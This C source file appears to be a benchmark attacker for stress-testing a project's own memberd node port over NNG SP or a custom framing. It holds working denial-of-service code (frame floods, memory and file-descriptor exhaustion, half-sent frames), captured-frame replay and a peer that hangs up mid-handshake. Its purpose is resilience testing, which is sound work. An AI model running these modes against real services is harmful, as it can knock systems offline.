/*
 * bench/attack.c: a raw-socket attacker for memberd's node port, for
 * bench/attack.sh. It speaks one of two framings:
 *
 *   --sp   nanomsg/NNG SP over TCP: an 8-byte header 00 'S' 'P' 00 00 PROTO
 *          00 00 from each side (we claim PUSH, 0x50), then each message as
 *          an 8-byte big-endian length and the body;
 *   --akc  akc's own transport: no header, each frame a 4-byte big-endian
 *          length and the body; the first frame of a connection is at most
 *          64 KiB (a larger length closes the connection).
 *
 * Modes (each prints one line of figures on stdout when it ends):
 *
 *   flood  [-d SECS] [-s BYTES] HOST:PORT
 *	one connection sending frames of BYTES (default 4 MiB) of garbage
 *	that look authenticated ('A' + a tag that does not verify) as fast as
 *	the peer takes them, for SECS (default 20); reconnects when closed.
 *	With --akc the first frame of each connection is 64 KiB.
 *   memhog [-n CONNS] [-s BYTES] [-d SECS] HOST:PORT
 *	CONNS (default 40) connections that each announce a frame of BYTES
 *	(default 8 MiB with --sp, 64 KiB with --akc: the most each framing
 *	lets a stranger announce) and send all of it but the last byte, then
 *	hold until SECS pass.
 *   fdhog  [-n CONNS] [-d SECS] HOST:PORT
 *	CONNS (default 1100) idle connections (the SP header only, or nothing
 *	with --akc), held until SECS pass.
 *   replay -f FILE [-i MS] [-d SECS] HOST:PORT...
 *	sends FILE (one frame body, as `extract` writes it) every MS
 *	milliseconds (default 100) to each HOST:PORT, for SECS.
 *   hangup [-d SECS] HOST:PORT
 *	the other side: listens on HOST:PORT and hangs up on every connection
 *	as soon as it has one: with --sp, once the SP handshake is done (we
 *	claim PULL, 0x51, and read the peer's header), so that the peer's
 *	pipe is closed while it starts; with --akc, at once.
 *   extract -p PORT -m TEXT [-m TEXT...] PCAP
 *	writes to stdout the body of the last frame in a tcpdump capture,
 *	sent to TCP port PORT, that contains every TEXT. Frames are read
 *	packet by packet (a frame split over two segments is not found: our
 *	small frames go out in one segment, TCP_NODELAY).
 *
 * Weak points, on purpose: garbage is one random buffer sent again and
 * again; connection counts are bounded by our own RLIMIT_NOFILE (raised to
 * the hard limit at start).
 */
#ifndef _GNU_SOURCE
#define _GNU_SOURCE
#endif
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netdb.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <signal.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/random.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define SP_PUSH		0x50
#define AKC_FIRST_MAX	(64 * 1024)
#define MIB		(1024.0 * 1024.0)

static int sp = -1;		/* 1: --sp, 0: --akc */

static void
die(const char *fmt, ...) __attribute__((format(printf, 1, 2), noreturn));

static void
die(const char *fmt, ...)
{
	va_list ap;

	fputs("attack: ", stderr);
	va_start(ap, fmt);
	vfprintf(stderr, fmt, ap);
	va_end(ap);
	fputc('\n', stderr);
	exit(1);
}

static double
mono_s(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static void
usage(void)
{
	fputs("usage: attack --sp|--akc flood  [-d SECS] [-s BYTES] HOST:PORT\n"
	    "       attack --sp|--akc memhog [-n CONNS] [-s BYTES] [-d SECS] HOST:PORT\n"
	    "       attack --sp|--akc fdhog  [-n CONNS] [-d SECS] HOST:PORT\n"
	    "       attack --sp|--akc replay -f FILE [-i MS] [-d SECS] HOST:PORT...\n"
	    "       attack --sp|--akc hangup [-d SECS] HOST:PORT\n"
	    "       attack --sp|--akc extract -p PORT -m TEXT [-m TEXT...] PCAP\n", stderr);
	exit(2);
}

static void
resolve(const char *hostport, struct sockaddr_storage *ss, socklen_t *sl)
{
	struct addrinfo hints = { .ai_socktype = SOCK_STREAM }, *ai;
	char host[256];
	const char *colon = strrchr(hostport, ':');
	int e;

	if (strncmp(hostport, "tcp://", 6) == 0)
		hostport += 6;
	if (colon == NULL || (size_t)(colon - hostport) >= sizeof(host))
		die("'%s': not HOST:PORT", hostport);
	memcpy(host, hostport, (size_t)(colon - hostport));
	host[colon - hostport] = '\0';
	if ((e = getaddrinfo(host, colon + 1, &hints, &ai)) != 0)
		die("cannot resolve '%s': %s", hostport, gai_strerror(e));
	memcpy(ss, ai->ai_addr, ai->ai_addrlen);
	*sl = ai->ai_addrlen;
	freeaddrinfo(ai);
}

/* The frame header for a body of len bytes into h; returns its size. */
static size_t
frame_hdr(unsigned char *h, uint64_t len)
{
	int i, n = sp ? 8 : 4;

	for (i = 0; i < n; i++)
		h[i] = (unsigned char)(len >> (8 * (n - 1 - i)));
	return (size_t)n;
}

static const unsigned char sp_hdr[8] = { 0, 'S', 'P', 0, 0, SP_PUSH, 0, 0 };

/* A socket connecting to the target: blocking or not. -1 on error. */
static int
dial(const struct sockaddr_storage *ss, socklen_t sl, int nonblock)
{
	int fd, one = 1;

	fd = socket(ss->ss_family, SOCK_STREAM | SOCK_CLOEXEC | (nonblock ? SOCK_NONBLOCK : 0), 0);
	if (fd < 0)
		return -1;
	(void)setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof(one));
	if (connect(fd, (const struct sockaddr *)ss, sl) < 0 && errno != EINPROGRESS) {
		close(fd);
		return -1;
	}
	return fd;
}

/*
 * Writes all of buf on a blocking socket with a short send timeout. Returns
 * 0, -1 on an error (the peer closed), -2 when the deadline end passed first.
 */
static int
write_all(int fd, const void *buf, size_t len, double end)
{
	const char *p = buf;

	while (len > 0) {
		ssize_t n = send(fd, p, len, MSG_NOSIGNAL);

		if (n < 0 && (errno == EINTR || errno == EAGAIN)) {
			if (mono_s() >= end)
				return -2;
			continue;
		}
		if (n < 0)
			return -1;
		p += n;
		len -= (size_t)n;
	}
	return 0;
}

static unsigned char *
garbage(size_t len)
{
	unsigned char *b = malloc(len > 0 ? len : 1);
	size_t off = 0;

	if (b == NULL)
		die("out of memory");
	while (off < len) {
		ssize_t n = getrandom(b + off, len - off, 0);

		if (n < 0 && errno != EINTR)
			die("getrandom: %s", strerror(errno));
		if (n > 0)
			off += (size_t)n;
	}
	if (len > 0)
		b[0] = 'A';	/* looks keyed: the receiver checks the tag over all of it */
	return b;
}

/* ---- flood ---- */

static int
flood(const struct sockaddr_storage *ss, socklen_t sl, double secs, size_t size)
{
	unsigned char *body = garbage(size), h[8];
	double t0 = mono_s(), end = t0 + secs;
	uint64_t frames = 0, bytes = 0, conns = 0, closed = 0, refused = 0;
	struct timeval tv = { 0, 100000 };
	int fd = -1, r = 0;

	while (mono_s() < end) {
		size_t len = size, off;

		if (fd < 0) {
			if ((fd = dial(ss, sl, 0)) < 0) {
				refused++;
				usleep(10000);
				continue;
			}
			/* a stalled peer must not keep us past the deadline */
			(void)setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof(tv));
			conns++;
			if (sp && (r = write_all(fd, sp_hdr, sizeof(sp_hdr), end)) < 0)
				goto lost;
			if (!sp && size > AKC_FIRST_MAX)
				len = AKC_FIRST_MAX;
		}
		if ((r = write_all(fd, h, frame_hdr(h, len), end)) < 0)
			goto lost;
		for (off = 0; off < len; off += 65536) {
			size_t chunk = len - off < 65536 ? len - off : 65536;

			if ((r = write_all(fd, body + off, chunk, end)) < 0)
				goto lost;
			bytes += chunk;
		}
		frames++;
		continue;
lost:
		if (r == -2)
			break;
		closed++;
		close(fd);
		fd = -1;
	}
	if (fd >= 0)
		close(fd);
	printf("flood: %llu frames of %zu bytes%s, %.1f MiB in %.1fs (%.1f MiB/s), "
	    "%llu connections, %llu closed by the peer, %llu failed connects\n",
	    (unsigned long long)frames, size, sp ? "" : " (64 KiB the first of each connection)",
	    (double)bytes / MIB, mono_s() - t0,
	    (double)bytes / MIB / (mono_s() - t0), (unsigned long long)conns,
	    (unsigned long long)closed, (unsigned long long)refused);
	free(body);
	return 0;
}

/* ---- memhog and fdhog: many non-blocking connections held open ---- */

struct conn {
	int fd;
	int state;		/* CONNECTING, SENDING, HOLDING, CLOSED, FAILED */
	size_t sent;		/* of the prefix: header(s) + body */
};
enum { CONNECTING, SENDING, HOLDING, CLOSED, FAILED };

/*
 * Opens n connections and pushes into each the same prefix (pre of plen
 * bytes: the SP header, a frame header, all but the last byte of the
 * announced body) then holds them until secs pass. A connection whose
 * peer closes it (read 0 or an error) is counted and not reopened.
 */
static int
hold(const char *mode, const struct sockaddr_storage *ss, socklen_t sl, int n,
    double secs, const unsigned char *pre, size_t plen)
{
	struct conn *c = calloc((size_t)n, sizeof(*c));
	struct pollfd *p = calloc((size_t)n, sizeof(*p));
	double t0 = mono_s(), end = t0 + secs, t_all = -1, t_close0 = -1, t_close1 = -1;
	int i, nopen = 0, nfail = 0, ndone = 0, nclosed = 0, nconnected = 0;
	uint64_t bytes = 0;
	char sink[4096];

	if (c == NULL || p == NULL)
		die("out of memory");
	for (i = 0; i < n; i++) {
		c[i].fd = dial(ss, sl, 1);
		c[i].state = c[i].fd < 0 ? FAILED : CONNECTING;
		if (c[i].fd < 0)
			nfail++;
	}
	while (mono_s() < end) {
		double left = end - mono_s();

		for (i = 0; i < n; i++) {
			p[i].fd = c[i].state <= HOLDING ? c[i].fd : -1;
			p[i].events = c[i].state == CONNECTING || c[i].state == SENDING ?
			    POLLOUT : 0;
			if (c[i].state == SENDING || c[i].state == HOLDING)
				p[i].events |= POLLIN;
			p[i].revents = 0;
		}
		if (poll(p, (nfds_t)n, left > 0.1 ? 100 : (int)(left * 1000) + 1) < 0 &&
		    errno != EINTR)
			die("poll: %s", strerror(errno));
		for (i = 0; i < n; i++) {
			struct conn *k = &c[i];
			short re = p[i].revents;

			if (re == 0)
				continue;
			if (k->state == CONNECTING) {
				int err = 0;
				socklen_t el = sizeof(err);

				(void)getsockopt(k->fd, SOL_SOCKET, SO_ERROR, &err, &el);
				if (err != 0) {
					close(k->fd);
					k->state = FAILED;
					nfail++;
					continue;
				}
				nconnected++;
				nopen++;
				k->state = plen > 0 ? SENDING : HOLDING;
				if (k->state == HOLDING && ++ndone == n - nfail)
					t_all = mono_s() - t0;
			}
			if (re & (POLLIN | POLLHUP | POLLERR)) {
				ssize_t r = recv(k->fd, sink, sizeof(sink), MSG_DONTWAIT);

				if (r == 0 || (r < 0 && errno != EAGAIN && errno != EINTR)) {
					close(k->fd);
					k->state = CLOSED;
					nclosed++;
					nopen--;
					t_close1 = mono_s() - t0;
					if (t_close0 < 0)
						t_close0 = t_close1;
					continue;
				}
			}
			if (k->state == SENDING && (re & POLLOUT)) {
				ssize_t w = send(k->fd, pre + k->sent, plen - k->sent,
				    MSG_NOSIGNAL | MSG_DONTWAIT);

				if (w < 0 && errno != EAGAIN && errno != EINTR) {
					close(k->fd);
					k->state = CLOSED;
					nclosed++;
					nopen--;
					t_close1 = mono_s() - t0;
					if (t_close0 < 0)
						t_close0 = t_close1;
					continue;
				}
				if (w > 0) {
					k->sent += (size_t)w;
					bytes += (uint64_t)w;
				}
				if (k->sent == plen) {
					k->state = HOLDING;
					if (++ndone == n - nfail)
						t_all = mono_s() - t0;
				}
			}
		}
	}
	int connecting = 0, sending = 0;

	for (i = 0; i < n; i++) {
		if (c[i].state == CONNECTING)
			connecting++;
		if (c[i].state == SENDING)
			sending++;
		if (c[i].fd >= 0 && c[i].state <= HOLDING)
			close(c[i].fd);
	}
	printf("%s: %d connections asked, %d connected, %d failed, %d never connected, "
	    "%d fully sent%s, %d still sending, %d closed by the peer",
	    mode, n, nconnected, nfail, connecting, ndone,
	    t_all >= 0 ? "" : " (not all)", sending, nclosed);
	if (nclosed > 0)
		printf(" (the first after %.1fs, the last after %.1fs)", t_close0, t_close1);
	printf(", %d open at the end; %.1f MiB sent", nopen - sending, (double)bytes / MIB);
	if (t_all >= 0)
		printf("; all sent after %.2fs", t_all);
	printf("\n");
	free(c);
	free(p);
	return 0;
}

static int
memhog(const struct sockaddr_storage *ss, socklen_t sl, int n, double secs, size_t size)
{
	size_t plen = 0;
	unsigned char *pre;

	if (size < 2)
		die("memhog: -s must be at least 2");
	if ((pre = garbage(8 + 8 + size)) == NULL)
		die("out of memory");
	if (sp) {
		memcpy(pre, sp_hdr, sizeof(sp_hdr));
		plen = sizeof(sp_hdr);
	}
	plen += frame_hdr(pre + plen, size);
	pre[plen] = 'A';
	plen += size - 1;	/* all but the last byte: the peer keeps waiting for it */
	hold("memhog", ss, sl, n, secs, pre, plen);
	free(pre);
	return 0;
}

static int
fdhog(const struct sockaddr_storage *ss, socklen_t sl, int n, double secs)
{
	return hold("fdhog", ss, sl, n, secs, sp_hdr, sp ? sizeof(sp_hdr) : 0);
}

/* ---- replay ---- */

static unsigned char *
slurp(const char *path, size_t *len)
{
	FILE *f = fopen(path, "rb");
	unsigned char *b = NULL;
	size_t cap = 0, n;

	if (f == NULL)
		die("cannot open '%s': %s", path, strerror(errno));
	*len = 0;
	do {
		if (*len == cap && (b = realloc(b, cap = cap * 2 + 65536)) == NULL)
			die("out of memory");
		n = fread(b + *len, 1, cap - *len, f);
		*len += n;
	} while (n > 0);
	if (ferror(f))
		die("cannot read '%s'", path);
	fclose(f);
	return b;
}

static int
replay(char **targets, int nt, const char *file, double secs, int ivl_ms)
{
	struct sockaddr_storage ss[16];
	socklen_t sl[16];
	int fd[16], i;
	uint64_t sent[16] = { 0 }, conns[16] = { 0 };
	struct timeval tv = { 0, 200000 };
	size_t blen, hl;
	unsigned char *body = slurp(file, &blen), h[8];
	double end = mono_s() + secs, next = mono_s();

	if (nt > 16)
		die("replay: at most 16 targets");
	hl = frame_hdr(h, blen);
	for (i = 0; i < nt; i++) {
		resolve(targets[i], &ss[i], &sl[i]);
		fd[i] = -1;
	}
	while (mono_s() < end) {
		for (i = 0; i < nt; i++) {
			if (fd[i] < 0) {
				if ((fd[i] = dial(&ss[i], sl[i], 0)) < 0)
					continue;
				(void)setsockopt(fd[i], SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof(tv));
				conns[i]++;
				if (sp && write_all(fd[i], sp_hdr, sizeof(sp_hdr), end) < 0)
					goto lost;
			}
			if (write_all(fd[i], h, hl, end) < 0 || write_all(fd[i], body, blen, end) < 0)
				goto lost;
			sent[i]++;
			continue;
lost:
			close(fd[i]);
			fd[i] = -1;
		}
		next += ivl_ms / 1000.0;
		if (next > mono_s())
			usleep((useconds_t)((next - mono_s()) * 1e6));
	}
	printf("replay: a %zu-byte frame every %d ms:", blen, ivl_ms);
	for (i = 0; i < nt; i++) {
		printf(" %s %llu sent (%llu connections)", targets[i],
		    (unsigned long long)sent[i], (unsigned long long)conns[i]);
		if (fd[i] >= 0)
			close(fd[i]);
	}
	printf("\n");
	free(body);
	return 0;
}

/* ---- hangup ---- */

static int
hangup(const struct sockaddr_storage *ss, socklen_t sl, double secs)
{
	static const unsigned char sp_pull[8] = { 0, 'S', 'P', 0, 0, SP_PUSH + 1, 0, 0 };
	struct timeval tv = { 1, 0 };
	double end = mono_s() + secs;
	int lfd, one = 1;
	unsigned long long n = 0, shook = 0;

	if ((lfd = socket(ss->ss_family, SOCK_STREAM | SOCK_CLOEXEC, 0)) < 0 ||
	    setsockopt(lfd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one)) < 0 ||
	    bind(lfd, (const struct sockaddr *)ss, sl) < 0 || listen(lfd, 128) < 0)
		die("cannot listen: %s", strerror(errno));
	while (mono_s() < end) {
		struct pollfd p = { .fd = lfd, .events = POLLIN };
		unsigned char hdr[8];
		int fd;

		if (poll(&p, 1, 100) <= 0 || (fd = accept4(lfd, NULL, NULL, SOCK_CLOEXEC)) < 0)
			continue;
		n++;
		if (sp) {
			(void)setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
			if (send(fd, sp_pull, sizeof(sp_pull), MSG_NOSIGNAL) == sizeof(sp_pull) &&
			    recv(fd, hdr, sizeof(hdr), MSG_WAITALL) == sizeof(hdr))
				shook++;
		}
		close(fd);
	}
	close(lfd);
	printf("hangup: %llu connections hung up on, %llu after the SP handshake\n", n, shook);
	return 0;
}

/* ---- extract ---- */

static uint32_t
rd32(const unsigned char *p, int swap)
{
	uint32_t v;

	memcpy(&v, p, 4);
	return swap ? __builtin_bswap32(v) : v;
}

static int
has_all(const unsigned char *b, size_t len, char **match, int nm)
{
	int i;

	for (i = 0; i < nm; i++)
		if (memmem(b, len, match[i], strlen(match[i])) == NULL)
			return 0;
	return 1;
}

/*
 * The TCP payload of one captured packet (link type lt), if it goes to
 * dport. Returns its length, or -1.
 */
static long
tcp_payload(const unsigned char *pk, size_t len, uint32_t lt, int dport,
    const unsigned char **out)
{
	size_t off, ihl;
	int proto, ver;

	switch (lt) {
	case 0: off = 4; break;		/* BSD loopback */
	case 1: off = 14; break;	/* Ethernet */
	case 101: off = 0; break;	/* raw IP */
	case 113: off = 16; break;	/* Linux cooked */
	case 276: off = 20; break;	/* Linux cooked v2 */
	default: die("extract: link type %u not handled", lt);
	}
	if (len < off + 20)
		return -1;
	ver = pk[off] >> 4;
	if (ver == 4) {
		ihl = (size_t)(pk[off] & 15) * 4;
		proto = pk[off + 9];
		len = off + ((size_t)pk[off + 2] << 8 | pk[off + 3]) < len ?
		    off + ((size_t)pk[off + 2] << 8 | pk[off + 3]) : len;
	} else if (ver == 6) {
		ihl = 40;
		proto = pk[off + 6];
	} else
		return -1;
	off += ihl;
	if (proto != IPPROTO_TCP || len < off + 20)
		return -1;
	if (((int)pk[off + 2] << 8 | pk[off + 3]) != dport)
		return -1;
	off += (size_t)(pk[off + 12] >> 4) * 4;
	if (off > len)
		return -1;
	*out = pk + off;
	return (long)(len - off);
}

static int
extract(const char *path, int dport, char **match, int nm)
{
	size_t len, off, hl = sp ? 8 : 4;
	unsigned char *cap = slurp(path, &len);
	const unsigned char *best = NULL;
	size_t bestlen = 0;
	int swap;
	uint32_t magic, lt;
	long found = 0;

	if (len < 24)
		die("'%s': not a pcap file", path);
	memcpy(&magic, cap, 4);
	if (magic == 0xa1b2c3d4 || magic == 0xa1b23c4d)
		swap = 0;
	else if (magic == 0xd4c3b2a1 || magic == 0x4d3cb2a1)
		swap = 1;
	else
		die("'%s': not a pcap file (pcapng is not read: use tcpdump -w)", path);
	lt = rd32(cap + 20, swap) & 0xffff;
	for (off = 24; off + 16 <= len; ) {
		size_t incl = rd32(cap + off + 8, swap);
		const unsigned char *pl;
		long plen;

		if (off + 16 + incl > len)
			break;
		plen = tcp_payload(cap + off + 16, incl, lt, dport, &pl);
		off += 16 + incl;
		if (plen <= 0)
			continue;
		if (sp && plen >= 8 && memcmp(pl, "\0SP\0", 4) == 0) {
			pl += 8;
			plen -= 8;
		}
		while ((size_t)plen >= hl) {
			uint64_t fl = 0;
			size_t i;

			for (i = 0; i < hl; i++)
				fl = fl << 8 | pl[i];
			if (fl > (uint64_t)plen - hl)
				break;	/* split over segments, or not a frame start */
			if (has_all(pl + hl, (size_t)fl, match, nm)) {
				best = pl + hl;
				bestlen = (size_t)fl;
				found++;
			}
			pl += hl + fl;
			plen -= (long)(hl + fl);
		}
	}
	if (best == NULL)
		die("extract: no frame to port %d with the text asked for in '%s'", dport, path);
	if (fwrite(best, 1, bestlen, stdout) != bestlen || fflush(stdout) != 0)
		die("cannot write the frame: %s", strerror(errno));
	fprintf(stderr, "attack: extract: %ld matching frames, wrote the last (%zu bytes)\n",
	    found, bestlen);
	free(cap);
	return 0;
}

int
main(int argc, char **argv)
{
	struct sockaddr_storage ss;
	socklen_t sl;
	struct rlimit rl;
	const char *mode, *file = NULL;
	char *match[8];
	double secs = 20;
	long size = -1;
	int n = -1, ivl = 100, port = -1, nm = 0, ch;

	if (argc < 3)
		usage();
	if (strcmp(argv[1], "--sp") == 0)
		sp = 1;
	else if (strcmp(argv[1], "--akc") == 0)
		sp = 0;
	else
		usage();
	mode = argv[2];
	optind = 3;
	while ((ch = getopt(argc, argv, "d:f:i:m:n:p:s:")) != -1) {
		switch (ch) {
		case 'd': secs = atof(optarg); break;
		case 'f': file = optarg; break;
		case 'i': ivl = atoi(optarg); break;
		case 'm':
			if (nm == 8)
				die("at most 8 -m");
			match[nm++] = optarg;
			break;
		case 'n': n = atoi(optarg); break;
		case 'p': port = atoi(optarg); break;
		case 's': size = atol(optarg); break;
		default: usage();
		}
	}
	if (optind >= argc || secs <= 0 || ivl <= 0)
		usage();
	signal(SIGPIPE, SIG_IGN);
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (getrlimit(RLIMIT_NOFILE, &rl) == 0 && rl.rlim_cur < rl.rlim_max) {
		rl.rlim_cur = rl.rlim_max;
		(void)setrlimit(RLIMIT_NOFILE, &rl);
	}
	if (strcmp(mode, "extract") == 0) {
		if (port <= 0 || nm == 0)
			usage();
		return extract(argv[optind], port, match, nm);
	}
	if (strcmp(mode, "replay") == 0) {
		if (file == NULL)
			usage();
		return replay(argv + optind, argc - optind, file, secs, ivl);
	}
	if (optind != argc - 1)
		usage();
	resolve(argv[optind], &ss, &sl);
	if (strcmp(mode, "flood") == 0)
		return flood(&ss, sl, secs, size > 0 ? (size_t)size : 4 << 20);
	if (strcmp(mode, "memhog") == 0)
		return memhog(&ss, sl, n > 0 ? n : 40, secs,
		    size > 0 ? (size_t)size : sp ? 8 << 20 : AKC_FIRST_MAX);
	if (strcmp(mode, "fdhog") == 0)
		return fdhog(&ss, sl, n > 0 ? n : 1100, secs);
	if (strcmp(mode, "hangup") == 0)
		return hangup(&ss, sl, secs);
	usage();
}
